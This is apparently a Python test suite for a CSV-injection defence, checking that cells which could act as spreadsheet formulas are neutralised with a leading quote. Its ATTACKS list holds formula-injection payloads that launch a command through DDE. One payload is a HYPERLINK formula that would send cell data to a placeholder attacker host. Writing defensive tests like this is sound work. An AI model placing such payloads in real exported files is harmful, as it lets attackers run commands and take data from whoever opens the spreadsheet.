"""CSV cells neutralised by OWASP's rule: a spreadsheet shows them as text, never runs them."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revpact.domain.csv_safe import FORMULA_STARTS, is_plain_number, safe_cell, writer

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
    "-",
    "-1+1",
    "-12.50 EUR",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_gets_a_leading_quote(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-12.50", "+3", "-1,250.00", "1e-5", "-.5", " -7 ", "0", "12500.50", "-1E+3"]
)
def test_a_plain_number_is_data_and_left_alone(cell: str) -> None:
    assert is_plain_number(cell)
    assert safe_cell(cell) == cell


@pytest.mark.parametrize(
    "cell", ["", "L-1", "a=b", "2020-03-02T09:00:00+01:00", "Jane O'Neil", "'=x", "café"]
)
def test_ordinary_text_is_unchanged(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_none_is_an_empty_cell_as_csv_writes_it() -> None:
    assert safe_cell(None) == ""


def test_the_writer_neutralises_every_cell_and_keeps_the_dialect() -> None:
    buffer = io.StringIO()
    out = writer(buffer, lineterminator="\n")
    out.writerow(["=1+1", "-12.50", "ok"])
    out.writerows([["@x", 3]])
    assert buffer.getvalue() == "'=1+1,-12.50,ok\n'@x,3\n"


NUMBER_ONLY = frozenset("0123456789+-.,eE \t\r\n")
"""Characters that name no function, reference or operator a formula could run."""


def is_inert(cell: str) -> bool:
    """A spreadsheet (which may trim blanks first) reads ``cell`` as text or a number."""
    seen = cell.lstrip(" \n\r\t")
    starts = {cell[:1], seen[:1]}
    return not (starts & FORMULA_STARTS) or set(cell) <= NUMBER_ONLY


cells = st.one_of(
    st.text(),
    st.builds(
        lambda first, rest: first + rest,
        st.sampled_from([*sorted(FORMULA_STARTS), " ", "\n", "-1", "+"]),
        st.text(),
    ),
)


@given(rows=st.lists(st.lists(cells, min_size=1, max_size=5), min_size=1, max_size=5))
def test_no_cell_written_reads_back_as_a_formula(rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    writer(buffer).writerows(rows)
    read = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert len(read) == len(rows)
    for written, original in zip(read, rows, strict=True):
        for cell, value in zip(written, original, strict=True):
            assert is_inert(cell), (value, cell)
            assert cell in (value, "'" + value)
